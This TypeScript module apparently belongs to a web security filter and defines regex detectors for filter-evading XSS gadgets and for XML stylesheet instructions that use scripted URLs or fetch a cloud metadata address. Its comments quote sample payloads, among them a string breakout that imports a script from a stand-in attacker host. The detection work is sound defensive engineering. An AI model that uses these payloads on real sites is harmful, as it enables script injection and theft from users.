/**
 * @module core/signatures/js-gadgets
 * Script written to reach a sink without naming it where filters look: a dialog or `eval` called
 * through a global indexed by a computed name (`top[/al/.source+/ert/.source](1)`), handed to an
 * object's `toString` or `valueOf` so that coercion calls it (`{toString:alert}+''`), aliased and
 * called (`x=alert,x(1)`), named as an event handler's value (`onReady=alert`: a player or widget
 * that wires its `on…` parameters to functions by name), or a module imported from another site
 * right after a string's breakout (`';import('//evil.test/x.js');//`). An XML document can also
 * ask the browser to render it through a stylesheet in a `data:` or `javascript:` URL
 * (`<?xml-stylesheet href="data:text/xsl,…<script>…">`).
 */

/** The functions these gadgets reach: dialogs, `eval`, `Function`, `print`. */
const SINK = "(?:alert|prompt|confirm|eval|Function|print)";

/**
 * A global indexed by a computed name and called at once: `top[…](`, `window['al'+'ert'](`. Not
 * `this[kAbort]()` (a class's symbol-keyed method) and not "this [link](url)" (Markdown): the
 * index is glued to a global's name.
 */
const GLOBAL_INDEX_CALL = /(?:^|[^\w$.])(?:top|window|self|parent|frames|globalThis|document)\[[^\]\n]{1,120}\]\s*\(/;
/** An object whose coercion calls a sink: `{toString:alert}`, `valueOf: prompt`. */
const COERCION_SINK = new RegExp(`\\b(?:toString|valueOf)\\s*:\\s*${SINK}\\b`);
/** A sink aliased to a name and the name called: `x=alert,x(1)`, `a=eval;a(…)`. */
const ALIASED_SINK = new RegExp(`(?:^|[^\\w$.])([A-Za-z_$][\\w$]{0,15})\\s*=\\s*${SINK}\\s*[,;]\\s*\\1\\s*\\(`);
/** A string's breakout, then a module imported from another site. */
const REMOTE_IMPORT = /['"`]\s*[;,)]\s*import\s*\(\s*['"`](?:https?:)?\/\//i;
/** Event-handler names a widget wires to a function by name (`onReady`, `on_load`, `onerror`). */
const HANDLER_NAME = /^on[_-]?[a-z]{3,20}$/i;
const BARE_SINK = new RegExp(`^\\s*(?:window\\.|self\\.|top\\.)?${SINK}\\s*$`);
/** An XML stylesheet processing instruction fetching a `data:` or `javascript:` URL. */
const SCRIPTED_STYLESHEET = /<\?xml-stylesheet[^>]{0,200}\bhref\s*=\s*["']?\s*(?:data|javascript):/i;

/**
 * Does `value` (a parameter, percent-decoded) reach a sink by one of the gadgets above? A global
 * indexed and called is asked of URL parameters only (`inQuery`): in a body field it is as often a
 * code sample's dispatch (`window[handlerName](event)`).
 */
export function scriptGadget(value: string, inQuery: boolean): boolean {
  if (value.length < 8 || value.length > 16384) return false;
  if (inQuery && value.includes("[") && value.includes("(") && GLOBAL_INDEX_CALL.test(value)) return true;
  if ((value.includes("toString") || value.includes("valueOf")) && COERCION_SINK.test(value)) return true;
  if (value.includes("=") && ALIASED_SINK.test(value)) return true;
  return value.includes("import") && REMOTE_IMPORT.test(value);
}

/** Is `value`, under an event handler's name (`onReady`), a sink's name alone (`alert`, `window.eval`)? */
export function handlerSink(name: string, value: string): boolean {
  return value.length <= 32 && HANDLER_NAME.test(name) && BARE_SINK.test(value);
}

/** An XML stylesheet processing instruction's `href`, quoted. */
const STYLESHEET_HREF = /<\?xml-stylesheet[^>]{0,200}?\bhref\s*=\s*(?:"([^"]{1,2048})"|'([^']{1,2048})')/i;

/**
 * The address an XML document's stylesheet processing instruction names (`<?xml-stylesheet
 * type="text/xsl" href="http://169.254.169.254/…"?>`), which a processor applying it fetches; or null.
 */
export function stylesheetHref(text: string): string | null {
  if (!text.includes("<?xml-stylesheet")) return null;
  const m = STYLESHEET_HREF.exec(text);
  return m === null ? null : ((m[1] ?? m[2]) as string);
}

/** Does an XML document's text ask for a stylesheet in a `data:` or `javascript:` URL? */
export function scriptedStylesheet(text: string): boolean {
  return text.includes("<?xml-stylesheet") && SCRIPTED_STYLESHEET.test(text);
}
